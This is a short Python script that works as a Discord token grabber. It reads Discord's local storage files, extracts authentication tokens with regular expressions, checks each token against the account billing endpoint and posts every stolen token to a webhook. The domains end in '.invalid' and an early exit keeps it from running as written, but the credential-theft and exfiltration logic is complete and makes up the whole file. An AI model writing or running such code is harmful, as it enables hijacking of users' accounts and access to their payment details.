import os
import re
import requests

raise SystemExit
p = os.getenv("APPDATA") + "\\discord\\Local Storage\\leveldb"
for f in os.listdir(p):
    if f.endswith(".ldb") or f.endswith(".log"):
        for line in open(os.path.join(p, f), errors="ignore"):
            for rx in (r"[\w-]{24}\.[\w-]{6}\.[\w-]{27}", r"mfa\.[\w-]{84}"):
                for tok in re.findall(rx, line):
                    h = {"Authorization": tok}
                    requests.get("https://discord.com.invalid/api/v9/users/@me/billing/payment-sources", headers=h)
                    requests.post("https://discord.com.invalid/api/webhooks/0/x", json={"content": tok})
